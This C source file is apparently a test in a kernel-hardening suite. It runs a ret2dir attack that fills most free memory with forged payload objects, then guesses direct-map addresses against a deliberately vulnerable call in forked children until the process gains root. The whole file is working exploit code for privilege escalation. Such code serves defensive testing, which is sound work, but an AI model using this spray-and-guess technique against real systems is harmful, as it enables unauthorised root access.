/*
 * ret2dir without a leak of frame numbers: most of free memory holds one payload, and a guessed
 * address finds it.
 *
 * A forged object must name its own address, which is the guess. So the guesses are fixed first,
 * and every page holds one object for each of them, side by side: whichever page a guess meets, its
 * object is there.
 */
#include <assert.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

enum {
	NR_GUESSES = 12,
	LAST_GUESS = NR_GUESSES - 1,
	PERCENT_TO_FILL = 65, /* the kernel needs page tables for it, and some slack */
	MAX_PAGES = 1 << 18,  /* 1 GiB: enough on any machine, and done in seconds */
};

static_assert(NR_GUESSES * sizeof(struct payload_object) <= BW_PAGE_SIZE,
	      "one page holds all objects");

/* Spread evenly over physical memory; the last, made in earnest, is the middle. */
static uint64_t guess_address(const struct bw_leak *leak, uint64_t nr_pfn, int guess)
{
	uint64_t pfn = guess == LAST_GUESS ? nr_pfn / 2
					   : nr_pfn * (uint64_t)(guess + 1) / (NR_GUESSES + 1);

	return leak->direct_map_base + pfn * BW_PAGE_SIZE +
	       (uint64_t)guess * sizeof(struct payload_object);
}

static void build_page(uint8_t *page, const struct bw_leak *leak, uint64_t nr_pfn)
{
	memset(page, 0, BW_PAGE_SIZE);
	for (int guess = 0; guess < NR_GUESSES; guess++) {
		payload_object(page + guess * sizeof(struct payload_object),
			       guess_address(leak, nr_pfn, guess), leak);
	}
}

enum { STAGE_FILLED = 1 };

struct filling {
	attack_stage stage;
	uint64_t nr_pages;
};

/*
 * Fills memory with copies of the page, in pieces of 2 MiB, until enough is filled or no more is to
 * be had.
 */
static void fill(const uint8_t *page, uint64_t nr_pages, struct filling *filling)
{
	while (filling->nr_pages < nr_pages) {
		uint8_t *piece = mmap(NULL, BW_HUGE_PAGE_SIZE, PROT_READ | PROT_WRITE,
				      MAP_SHARED | MAP_ANONYMOUS, -1, 0);

		if (piece == MAP_FAILED) {
			break;
		}
		for (size_t offset = 0; offset < BW_HUGE_PAGE_SIZE; offset += BW_PAGE_SIZE) {
			memcpy(piece + offset, page, NR_GUESSES * sizeof(struct payload_object));
		}
		filling->nr_pages += BW_HUGE_PAGE_SIZE / BW_PAGE_SIZE;
	}
}

/*
 * Blocks until memory is filled. A child has it, for as long as its parent lives: each child that
 * makes a guess would share all of that otherwise, page by page.
 */
static uint64_t spray(const uint8_t *page, uint64_t nr_pages)
{
	struct filling *filling = mmap(NULL, sizeof(*filling), PROT_READ | PROT_WRITE,
				       MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	pid_t parent = getpid(), child = filling == MAP_FAILED ? -1 : fork();

	if (child == 0) {
		fill(page, nr_pages, filling);
		attack_tell(&filling->stage, STAGE_FILLED);
		while (getppid() == parent) {
			sleep(1);
		}
		_exit(0);
	}
	while (child > 0 && filling->stage != STAGE_FILLED && waitpid(child, NULL, WNOHANG) == 0) {
		attack_settle();
	}
	if (child < 0 || filling->stage != STAGE_FILLED) {
		attack_skip("memory cannot be filled");
	}
	return filling->nr_pages;
}

/*
 * A wrong guess is fatal, so a child makes it; the payload names the parent. True once that is
 * root.
 */
static bool guess_in_child(uint64_t address)
{
	pid_t child = fork();

	if (child == 0) {
		bw_vuln_call(address);
		_exit(0);
	}
	if (child > 0) {
		waitpid(child, NULL, 0);
	}
	return getuid() == 0;
}

int main(void)
{
	struct bw_leak leak;
	struct bw_memory_info info;
	static uint8_t page[BW_PAGE_SIZE];
	int guess = 0;

	attack_leak(&leak);
	if (bw_memory_info(&info) < 0) {
		attack_skip("the size of memory is not known");
	}
	build_page(page, &leak, info.nr_pfn);

	uint64_t nr_free = info.nr_free_revealed + info.nr_free_hidden;
	uint64_t nr_pages = nr_free * PERCENT_TO_FILL / 100;

	attack_say("filling %lu of %lu free frames with one payload",
		   spray(page, nr_pages < MAX_PAGES ? nr_pages : MAX_PAGES), nr_free);
	while (guess < LAST_GUESS && !guess_in_child(guess_address(&leak, info.nr_pfn, guess))) {
		guess++;
	}
	attack_say("%d guesses made by children", guess < LAST_GUESS ? guess + 1 : guess);
	if (getuid() != 0) {
		attack_say("the last guess, made in earnest: 0x%lx",
			   guess_address(&leak, info.nr_pfn, LAST_GUESS));
		attack_check("vuln_call",
			     bw_vuln_call(guess_address(&leak, info.nr_pfn, LAST_GUESS)));
	}
	return attack_finish();
}
